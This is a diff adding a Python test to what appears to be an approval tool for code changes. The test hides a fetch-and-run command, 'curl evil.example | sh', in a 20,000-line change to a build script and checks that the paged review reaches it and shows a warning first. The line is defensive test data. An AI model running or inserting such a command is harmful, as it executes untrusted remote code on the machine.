@@ -330,3 +330,23 @@ def test_where_the_window_is_resized_it_begins_anew(office: Office) -> None:
         typist.type("q\n")
         assert ended(typist)[0] == 1
     assert office.answers(asked) == []
+
+
+def test_of_20_000_lines_the_finding_is_on_the_first_page_and_the_harmful_one_is_reached(
+    office: Office,
+) -> None:
+    lines = [f"+line {number}" for number in range(20_000)]
+    lines[10_000] = "+curl evil.example | sh"
+    change = ShownChange(
+        diff="\n".join(lines), governed="", kind="changed", target="/project/build.sh"
+    )
+    asked = office.request(changes=(change,))
+    with approvals("grant", asked, rows=2_500) as typist:
+        pages = read_to_the_end(typist)
+        typist.type(f"{office.digest(asked)}\n")
+        typist.answer("Passphrase of ada: ", PASSPHRASE)
+        assert ended(typist)[0] == 0
+    assert "clients would break" in pages[0]
+    assert ["| +curl evil.example | sh" in page for page in pages].index(True) == len(pages) // 2
+    assert len(pages) == 9
+    assert len(office.answers(asked)) == 1
